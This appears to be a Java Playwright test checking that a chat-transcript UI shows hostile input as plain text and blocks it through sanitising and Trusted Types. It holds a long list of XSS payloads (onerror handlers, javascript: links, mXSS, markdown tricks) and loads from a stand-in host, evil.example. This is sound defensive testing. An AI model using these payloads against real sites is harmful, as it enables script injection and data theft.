package dev.parley.ui;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import dev.parley.local.LocalParley;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Tests that the UI shows malicious content as text and never executes it. */
@Tag("browser")
@QuarkusTest
@WithTestResource(LocalParley.class)
class MaliciousContentIT {

    /** Texts that would execute, load or hide something in a page that treats them as HTML. */
    private static final List<String> TEXTS =
            List.of(
                    "<script>pwned('script')</script>",
                    "<script src='http://evil.example/x.js'></script>",
                    "<img src=x onerror=\"pwned('img')\">",
                    "<img src='http://evil.example/pixel.png'>",
                    "<svg onload=pwned('svg')><animate onbegin=pwned('animate') attributeName=x></svg>",
                    "<svg><style><img src=x onerror=pwned('style')></style></svg>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned('mxss')&gt;\">",
                    "<noscript><p title=\"</noscript><img src=x onerror=pwned('noscript')>\">",
                    "<iframe src=\"javascript:pwned('iframe')\"></iframe>",
                    "<iframe srcdoc=\"<script>parent.pwned('srcdoc')</script>\"></iframe>",
                    "<object data=\"data:text/html,<script>pwned('object')</script>\"></object>",
                    "<embed src=\"javascript:pwned('embed')\">",
                    "<form action='http://evil.example/'><button>Press</button><input autofocus onfocus=pwned('focus')></form>",
                    "<a href=\"javascript:pwned('a')\">a link</a>",
                    "<details open ontoggle=pwned('toggle')>x</details>",
                    "<base href='http://evil.example/'>",
                    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
                    "<link rel=stylesheet href='http://evil.example/x.css'>",
                    "<style>body{display:none}</style>",
                    "<div style='position:fixed;inset:0;background:url(http://evil.example/)'>over all</div>",
                    "<template><script>pwned('template')</script></template>",
                    "<p id=main name=transcript class=live>clobbered</p>",
                    "[a link](javascript:pwned('markdown'))",
                    "[a link](JaVaScRiPt:pwned('case'))",
                    "[a link](java&#x0A;script:pwned('entity'))",
                    "[a link](data:text/html;base64,PHNjcmlwdD5wd25lZCgnZGF0YScpPC9zY3JpcHQ+)",
                    "[a link](vbscript:pwned('vb'))",
                    "[a link](<javascript:pwned('angle')>)",
                    "[a link][r]\n\n[r]: javascript:pwned('reference')",
                    "<javascript:pwned('autolink')>",
                    "![an image](http://evil.example/pixel.png)",
                    "![an image](x \"\\\" onerror=pwned('title')\")",
                    "[a](http://evil.example/\"onmouseover=\"pwned('attribute'))",
                    "`</code><img src=x onerror=pwned('code')>`",
                    "```html\n</pre><script>pwned('fence')</script>\n```",
                    "```\"><img src=x onerror=pwned('info')>\nx\n```",
                    "| a |\n|---|\n| <img src=x onerror=pwned('table')> |",
                    "# <img src=x onerror=pwned('heading')>",
                    "{{constructor.constructor('pwned(1)')()}} ${pwned('template')}",
                    "\u202e\u2066 over and out \u2069 \u200b\u0000\u0007\ufeff",
                    "Z\u0336\u0334\u0321\u0315a\u0301\u0316\u0359lgo" + "\u0335\u031b".repeat(300),
                    "W".repeat(1_500),
                    "* ".repeat(800),
                    "[".repeat(900),
                    "> ".repeat(400) + "deep");

    /** Records the scripts that were executed. */
    private static final String TRAP =
            "window.ran = []; window.pwned = what => window.ran.push(what);";

    private static UiScenario scenario;

    private final String session = "<img src=x onerror=pwned('id')>" + UUID.randomUUID();

    @BeforeAll
    static void begin() {
        scenario = new UiScenario();
    }

    @AfterAll
    static void end() {
        scenario.close();
    }

    @Test
    void transcript_withMaliciousTexts_isShownAsText() {
        scenario.publish(session, maliciousTurns());

        try (UiWindow window = scenario.open("/ui/")) {
            Page page = window.page();
            page.addInitScript(TRAP);
            page.navigate(UiScenario.url("/ui/session.html?id=" + UiWindow.encoded(session)));
            page.waitForSelector("#live.on");
            page.locator("#older").click();
            assertThat(page.locator("#older")).isHidden();

            Map<?, ?> read = (Map<?, ?>) page.evaluate(READ_ALL);

            Map<?, ?> turns = requireNonNull((Map<?, ?>) read.get("turns"));
            assertThat(turns).hasSize(2 * TEXTS.size());
            assertThat((List<?>) read.get("forbidden")).isEmpty();
            for (int i = 0; i < TEXTS.size(); i++) {
                assertThat(shownText(turns, "user-" + i))
                        .isEqualTo(withoutWhitespace(TEXTS.get(i)));
            }
            assertThat(page.evaluate("window.ran")).isEqualTo(List.of());
            assertThat(window.problems()).isEmpty();
            assertThat(page).hasTitle(session + " · Parley");
        }
    }

    /** The shown text of a turn without whitespace. */
    private static String shownText(Map<?, ?> turns, String turn) {
        return withoutWhitespace((String) requireNonNull(turns.get(turn)));
    }

    private static String withoutWhitespace(String text) {
        return text.replaceAll("[\\s\u0000]+", "");
    }

    /** Scrolls through all turns, and returns their texts and all elements that are not allowed. */
    private static final String READ_ALL =
            """
            async () => {
              const transcript = document.getElementById('transcript');
              const turns = {};
              const forbidden = [];
              const frame = () => new Promise(requestAnimationFrame);
              const allowed = new Set(['ARTICLE', 'HEADER', 'DIV', 'SPAN', 'TIME', 'H3', 'DETAILS', 'SUMMARY',
                'BDI', 'PRE', 'CODE', 'BUTTON', 'A', 'BLOCKQUOTE', 'BR', 'DEL', 'EM', 'HR', 'LI', 'OL', 'P',
                'STRONG', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL']);
              const attributes = new Set(['class', 'dir', 'data-turn', 'datetime', 'title', 'type', 'href',
                'target', 'rel', 'start', 'tabindex', 'aria-pressed', 'aria-label']);
              const check = (element) => {
                const names = element.getAttributeNames();
                const link = element.getAttribute('href');
                if (!allowed.has(element.tagName) || names.some((name) => !attributes.has(name))
                    || (link !== null && !/^(https?|mailto):/.test(link))) {
                  forbidden.push(element.outerHTML.slice(0, 200));
                }
              };
              transcript.scrollTop = 0;
              for (let atEnd = false; !atEnd; transcript.scrollTop += 400) {
                await frame();
                await frame();
                await frame();
                for (const turn of transcript.querySelectorAll('.turn')) {
                  turns[turn.dataset.turn] = turn.querySelector('.content').textContent;
                  turn.querySelectorAll('*').forEach(check);
                  // Switch to the raw text, and back.
                  const raw = turn.querySelector('.raw');
                  for (let presses = 0; raw !== null && presses < 2; presses++) {
                    raw.click();
                    turn.querySelectorAll('*').forEach(check);
                  }
                }
                atEnd = transcript.scrollTop + transcript.clientHeight > transcript.scrollHeight - 2;
              }
              return { turns, 'forbidden': forbidden };
            }
            """;

    @Test
    void transcript_withMaliciousParts_isShownAsText() {
        scenario.publish(session, maliciousParts());

        try (UiWindow window = scenario.open("/ui/")) {
            Page page = window.page();
            page.addInitScript(TRAP);
            page.navigate(UiScenario.url("/ui/session.html?id=" + UiWindow.encoded(session)));
            page.waitForSelector("#live.on");

            Map<?, ?> read = (Map<?, ?>) page.evaluate(READ_ALL);

            assertThat((Map<?, ?>) read.get("turns")).hasSize(TEXTS.size());
            assertThat((List<?>) read.get("forbidden")).isEmpty();
            page.locator("#find input").fill("pwned('fence')");
            page.locator("#find input").press("Enter");
            assertThat(page.locator("#find output")).hasText("1 of 1, newest first");
            assertThat(page.evaluate("window.ran")).isEqualTo(List.of());
            assertThat(window.problems()).isEmpty();
        }
    }

    private static List<String> maliciousParts() {
        Instant start = Instant.now().minusSeconds(600).truncatedTo(ChronoUnit.SECONDS);
        List<String> turns = new ArrayList<>();
        for (String text : TEXTS) {
            turns.add(
                    """
                    {"turnId":"parts-%d","occurredAt":"%s","role":"assistant","content":%s,"metadata":%s}"""
                            .formatted(
                                    turns.size(),
                                    start.plusSeconds(turns.size()),
                                    PARTS.replace("TEXT", UiScenario.jsonString(text)),
                                    METADATA.replace("TEXT", UiScenario.jsonString(text))));
        }
        return turns;
    }

    /** Each field of a part that may contain a text. */
    private static final String PARTS =
            """
            [TEXT,{"type":"text","text":TEXT},{"type":"text","text":{"value":TEXT}},{"type":TEXT,"name":TEXT},
             {"type":"reasoning","text":TEXT},{"type":"refusal","refusal":TEXT},{"type":TEXT,"text":TEXT},
             {"type":"tool_use","name":TEXT,"input":{TEXT:TEXT}},{"type":"tool_use","name":TEXT},
             {"type":"function_call","name":TEXT,"arguments":TEXT},
             {"type":"tool_result","name":TEXT,"content":[TEXT,{"text":TEXT},{TEXT:TEXT}]},
             {"type":"image_url","image_url":{"url":TEXT}},{"type":"file","url":TEXT,"filename":TEXT,"mediaType":TEXT},
             {"type":"image_url","image_url":"http://evil.example/pixel.png"},
             {"type":"image","image":"javascript:pwned('image')"},{"toString":TEXT,"valueOf":1,"__proto__":{"type":TEXT}},
             {"type":"buttons","buttons":[TEXT,{"title":TEXT,"payload":TEXT}]}]""";

    private static final String METADATA =
            """
            {"tool_calls":[{"function":{"name":TEXT,"arguments":TEXT}}],"refusal":TEXT,"reasoning_content":TEXT,"name":TEXT,
             "data":{"buttons":[{"title":TEXT,"payload":TEXT}],"image":TEXT,"attachment":TEXT,"custom":{TEXT:TEXT},
             "elements":[{"title":TEXT,"image_url":TEXT}]},"attachments":[TEXT,{"name":TEXT,"url":TEXT}]}""";

    private List<String> maliciousTurns() {
        Instant start = Instant.now().minusSeconds(600).truncatedTo(ChronoUnit.SECONDS);
        List<String> turns = new ArrayList<>();
        for (int i = 0; i < TEXTS.size(); i++) {
            for (String role : List.of("user", "assistant")) {
                turns.add(
                        UiScenario.turn(
                                role + "-" + i,
                                start.plusSeconds(turns.size()),
                                role,
                                TEXTS.get(i),
                                "," + otherFields(TEXTS.get(i))));
            }
        }
        return turns;
    }

    /** All other fields of a turn that may contain the text. */
    private static String otherFields(String text) {
        String quoted = UiScenario.jsonString(text.substring(0, Math.min(500, text.length())));
        return """
        "model":%1$s,"error":{%1$s:%1$s},"metadata":{%1$s:%1$s},"userId":%1$s,"channel":%1$s,"attributes":{%1$s:1},"userData":{"a":%1$s}"""
                .formatted(quoted);
    }

    @Test
    void list_withMaliciousNames_isShownAsText() {
        String user = "u\"><img src=x onerror=pwned('user')>" + UUID.randomUUID();
        scenario.publish(
                session,
                List.of(
                        UiScenario.turn(
                                "t-1",
                                Instant.now(),
                                "user",
                                "x",
                                ",\"userId\":%s,\"channel\":\"<script>pwned('channel')</script>\""
                                        .formatted(UiScenario.jsonString(user)))));

        try (UiWindow window = scenario.open("/ui/")) {
            Page page = window.page();
            page.addInitScript(TRAP);
            page.navigate(UiScenario.url("/ui/?userId=" + UiWindow.encoded(user)));

            assertThat(page.locator("#sessions .session")).hasText(session);
            assertThat(page.locator("#sessions img, #sessions script")).hasCount(0);
            page.locator("#sessions .session").click();
            page.waitForSelector("#live.on");
            assertThat(page.locator("h1")).hasText(session);
            assertThat(page.evaluate("window.ran")).isEqualTo(List.of());
            assertThat(window.problems()).isEmpty();
        }
    }

    /** The second line of defence, if the sanitizer ever misses something. */
    @Test
    void browser_refusesContentThatTheSanitizerMisses() {
        try (UiWindow window = scenario.open("/ui/")) {
            Page page = window.page();
            page.evaluate("() => {" + TRAP + "}");

            assertThatThrownBy(
                            () ->
                                    page.evaluate(
                                            "document.body.innerHTML = '<img src=x onerror=pwned(1)>'"))
                    .isInstanceOf(PlaywrightException.class)
                    .hasMessageContaining("TrustedHTML");
            assertThatThrownBy(
                            () ->
                                    page.evaluate(
                                            "document.body.setAttribute('onclick', 'pwned(2)')"))
                    .isInstanceOf(PlaywrightException.class)
                    .hasMessageContaining("TrustedScript");
            page.evaluate(
                    """
                    () => {
                      const link = document.createElement('a');
                      link.href = "javascript:pwned('href')";
                      document.body.append(link);
                      link.click();
                      const image = document.createElement('img');
                      image.src = 'http://127.0.0.1:9/pixel.png';
                      document.body.append(image);
                    }
                    """);

            page.waitForCondition(() -> window.problems().size() >= 2);
            assertThat(window.problems()).allMatch(each -> each.startsWith("policy: "));
            assertThat(page.evaluate("window.ran")).isEqualTo(List.of());
        }
    }
}
